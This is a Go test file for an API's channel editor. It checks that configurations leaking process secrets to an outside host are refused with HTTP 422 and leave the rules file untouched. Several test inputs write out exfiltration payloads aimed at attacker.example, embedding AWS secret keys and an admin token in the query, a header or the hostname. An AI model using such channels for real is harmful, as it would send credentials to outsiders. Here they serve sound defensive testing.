package api

import (
	"net/http"
	"strings"
	"testing"
)

// TestEditorCannotReadSecrets: a channel that would make the process send
// its own secrets somewhere is refused (422) and nothing is written. By
// default the editor may reference only the variables the rules file
// already uses; SWITCHBOARD_EDITOR_VARS widens or narrows that; a
// reference is never allowed inside a URL's host.
func TestEditorCannotReadSecrets(t *testing.T) {
	httpChannel := func(url string, headers map[string]any) map[string]any {
		h := map[string]any{"url": url}
		if headers != nil {
			h["headers"] = headers
		}
		return map[string]any{"http": h}
	}
	cases := []struct {
		name  string
		vars  []string // nil: the file's
		body  map[string]any
		code  int
		wants []string
	}{
		{"process secrets in the query", nil,
			httpChannel("http://attacker.example/collect?a=${AWS_SECRET_ACCESS_KEY}&b=${SWITCHBOARD_ADMIN_TOKEN}", nil),
			http.StatusUnprocessableEntity, []string{"${AWS_SECRET_ACCESS_KEY} is not a variable the editor may use", "${SWITCHBOARD_ADMIN_TOKEN}"}},
		{"a process secret in a header", nil,
			httpChannel("http://attacker.example/collect", map[string]any{"Authorization": "Bearer ${SWITCHBOARD_ADMIN_TOKEN}"}),
			http.StatusUnprocessableEntity, []string{"${SWITCHBOARD_ADMIN_TOKEN} is not a variable the editor may use"}},
		{"an allowed variable in the host", nil,
			httpChannel("http://${CRM_TOKEN}.attacker.example/x", nil),
			http.StatusUnprocessableEntity, []string{"cannot be part of a URL's host"}},
		{"a variable the file uses", nil,
			httpChannel("http://127.0.0.1:9/x", map[string]any{"Authorization": "Bearer ${CRM_TOKEN}"}),
			http.StatusCreated, nil},
		{"outside the operator's patterns", []string{"CRM_*"},
			httpChannel("http://127.0.0.1:9/x", map[string]any{"Authorization": "Bearer ${SLACK_TOKEN}"}),
			http.StatusUnprocessableEntity, []string{"${SLACK_TOKEN} is not a variable the editor may use"}},
		{"inside the operator's patterns", []string{"CRM_*", "PAGER_TOKEN"},
			httpChannel("http://127.0.0.1:9/x", map[string]any{"Authorization": "Bearer ${PAGER_TOKEN}"}),
			http.StatusCreated, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s0 := newServer(t, original, nil)
			s := serverWithVars(t, s0.path, nil, c.vars)
			r := s.do("PUT", "/api/v1/channels/leak", "", c.body)
			if r.code != c.code {
				t.Fatalf("PUT = %d %s, want %d", r.code, r.body, c.code)
			}
			for _, w := range c.wants {
				if !strings.Contains(string(r.body), w) {
					t.Errorf("answer lacks %q: %s", w, r.body)
				}
			}
			if c.code != http.StatusCreated && s.file() != original {
				t.Error("a refused channel changed the rules file")
			}
		})
	}
}

func TestParseEditorVars(t *testing.T) {
	got, err := ParseEditorVars("CRM_*, SLACK_TOKEN\nPAGER_?")
	if err != nil || strings.Join(got, "|") != "CRM_*|SLACK_TOKEN|PAGER_?" {
		t.Errorf("ParseEditorVars = %q, %v", got, err)
	}
	if got, err := ParseEditorVars(""); got != nil || err != nil {
		t.Errorf("empty = %q, %v; want nil (the file's variables)", got, err)
	}
	if _, err := ParseEditorVars("CRM_[*"); err == nil {
		t.Error("a bad pattern was accepted")
	}
}
